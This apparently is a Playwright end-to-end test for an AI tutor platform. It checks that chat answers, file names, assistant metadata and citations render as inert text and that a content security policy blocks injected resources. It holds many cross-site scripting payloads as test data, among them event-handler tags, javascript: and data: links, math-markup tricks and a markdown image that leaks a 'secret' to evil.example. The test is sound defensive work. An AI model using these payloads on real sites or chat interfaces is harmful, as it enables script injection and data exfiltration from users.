import { expect, test } from '../world/test.ts';

const evil = `<img src=x onerror="window.pwned=1"><svg onload="window.pwned=1"></svg>`;
const answer = `
${evil}
<script>window.pwned = 1; alert(1)</script>
<style>body { display: none }</style>
<iframe src="https://evil.example/frame"></iframe>

[click](javascript:window.pwned=1) [data](data:text/html,<script>window.pwned=1</script>) [vb](vbscript:x)
[safe](https://good.example/page) <javascript:window.pwned=1>
![leak](https://evil.example/leak.png?secret=1) ![svg](data:image/svg+xml,<svg/onload=window.pwned=1>)
![inner](/lamb/v1/me) ![ref][r]

[r]: https://evil.example/ref.png "x" onerror="window.pwned=1"

$\\href{javascript:window.pwned=1}{x}$ $\\includegraphics{https://evil.example/math.png}$ $\\htmlData{onclick=pwned}{y}$
$$\\url{javascript:window.pwned=1}$$

| a | b |
| - | - |
| ${evil} | [t](javascript:window.pwned=1) |

\`\`\`html
${evil}
\`\`\`

\`\`\`x" onmouseover="window.pwned=1
code
\`\`\`

See [1]. The end.
`;

test(
  'what a model, a file or another person wrote is text: nothing runs, nothing is asked of other hosts',
  { tag: '@ci' },
  async ({ world, organization, browser, baseURL }) => {
    const { call, teacher, student } = organization;
    const collection = world.kb.addCollection('notes', [
      {
        text: `mitosis phases ${evil}`,
        metadata: { filename: `${evil}.pdf`, page: 1, url: 'javascript:window.pwned=1' },
      },
    ]);
    const { id } = (await call(teacher, 'POST', '/lamb/v1/assistants', {
      name: `Tutor ${evil}`,
      description: `${evil} [x](javascript:window.pwned=1)`,
      prompt_template: '{context}{user_input}',
      metadata: {
        connector: 'openai',
        llm: 'gpt-4o-mini',
        assistant_type: 'multi_tool',
        tools: [
          { type: 'simple_rag', config: { collections: [String(collection)], citations: true, threshold: 0.01 } },
          { type: 'patch_file', mode: 'function', config: {} },
        ],
      },
    })) as { id: number };
    await call(teacher, 'PUT', `/lamb/v1/assistants/${String(id)}/publication`);
    const write = (path: string) =>
      call(student, 'PUT', `/lamb/v1/assistants/${String(id)}/workspace/files?path=${encodeURIComponent(path)}`, {
        text: evil,
      });
    await expect(write('<img src=x onerror=window.pwned=1>.txt'), 'no name of a file has markup').rejects.toThrow(
      '400',
    );
    await write('onerror=window.pwned.html');
    world.llm.script({ text: answer });

    const context = await browser.newContext(baseURL === undefined ? {} : { baseURL });
    await context.request.post('/api/auth/sign-in/email', {
      data: { email: student.email, password: student.password },
      headers: { origin: baseURL ?? '' },
    });
    const page = await context.newPage();
    const foreign: string[] = [];
    const dialogs: string[] = [];
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    context.on('request', (request) => {
      const url = new URL(request.url());
      if (/^https?:$/.test(url.protocol) && url.origin !== baseURL) foreign.push(request.url());
    });
    await page.addInitScript(() => {
      const seen: string[] = [];
      Object.assign(window, { seen });
      document.addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI }) => {
        seen.push(`${violatedDirective} ${blockedURI}`);
      });
    });
    const violations = () => page.evaluate(() => (window as unknown as { seen: string[] }).seen);
    const isPwned = () => page.evaluate(() => 'pwned' in window);

    await page.goto('/gallery');
    await expect(page.getByTestId('gallery-card')).toContainText('<img src=x');
    await page.getByTestId('gallery-card').getByRole('link').click();
    await expect(page.getByTestId('welcome')).toContainText('<svg onload');
    await page.getByTestId('files-btn').click();
    await expect(page.getByTestId('workspace-file')).toContainText('onerror=window.pwned.html');
    await page.getByTestId('workspace-file').click();
    await expect(page.getByTestId('workspace').locator('pre')).toContainText('<svg onload');
    await page.keyboard.press('Escape');

    await page.getByTestId('question-input').fill(`phases of mitosis ${evil}`);
    await page.getByTestId('send-btn').click();
    const shown = page.getByTestId('answer');
    await expect(shown).toHaveAttribute('data-status', 'finished');
    await expect(shown).toContainText('The end.');
    await expect(shown).toContainText('<script>window.pwned');
    await expect(shown.getByTestId('formula').first()).toContainText('x');
    // Of the many links, one leads somewhere, and without telling where from; no picture is loaded.
    const links = await shown.locator('a').evaluateAll((all) => all.map((each) => each.getAttribute('href')));
    expect(links.filter((href) => !/^https:\/\/(good|evil)\.example\//.test(href ?? ''))).toEqual([]);
    await expect(shown.locator('a[href="https://good.example/page"]')).toHaveAttribute('rel', /noopener/);
    expect(
      await shown.locator('img, svg [onload], iframe, script, style, object, [onerror], [onmouseover]').count(),
    ).toBe(0);
    await page.getByTestId('citation-1').click();
    await expect(page.getByTestId('passage')).toContainText('<img src=x');
    expect(await page.getByTestId('passage').locator('a').count()).toBe(0);
    await page.keyboard.press('Escape');
    await page.goto('/chats');
    await expect(page.getByTestId('chat-row')).toContainText('<img src=x');

    expect(await isPwned()).toBe(false);
    expect(dialogs).toEqual([]);
    expect(foreign).toEqual([]);
    expect(await violations()).toEqual([]);

    // Were the renderer wrong, the policy would still hold: what is put into the page by force is refused.
    const refused: string[] = [];
    page.on('requestfailed', (request) => refused.push(`${request.url()} ${request.failure()?.errorText ?? ''}`));
    await page.evaluate(() => {
      const image = document.createElement('img');
      image.src = 'https://evil.example/leak.png';
      const script = document.createElement('script');
      script.textContent = 'window.pwned = 1';
      const frame = document.createElement('iframe');
      frame.src = 'https://evil.example/frame';
      const box = document.createElement('div');
      box.innerHTML = '<img src="x" onerror="window.pwned=1">';
      document.body.append(image, script, frame, box);
      void fetch('https://evil.example/fetch').catch(() => undefined);
    });
    await expect
      .poll(async () => (await violations()).map((each) => each.split(' ')[0]).toSorted())
      .toEqual(expect.arrayContaining(['connect-src', 'img-src', 'script-src-elem']));
    expect(await isPwned()).toBe(false);
    // What Chromium lists as asked for was stopped by the policy, before it left.
    for (const url of foreign) expect(refused).toContain(`${url} csp`);
    await context.close();
  },
);
